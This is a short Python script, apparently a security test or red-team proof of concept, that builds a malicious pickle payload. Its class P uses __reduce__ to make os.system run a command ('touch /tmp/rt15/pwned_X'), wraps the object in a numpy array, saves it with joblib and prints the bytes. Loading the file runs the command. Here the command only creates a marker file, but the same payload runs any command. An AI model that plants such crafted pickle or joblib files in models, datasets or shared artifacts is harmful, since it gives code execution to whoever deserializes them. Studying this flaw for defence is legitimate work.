import joblib, numpy as np, pickletools, io
class P:
    def __reduce__(self):
        import os; return (os.system, ("touch /tmp/rt15/pwned_X",))
a = np.empty(1, dtype=object); a[0] = P()
joblib.dump(a, "/tmp/rt15/_tmp_obj.joblib")
d = open("/tmp/rt15/_tmp_obj.joblib","rb").read()
print(d)
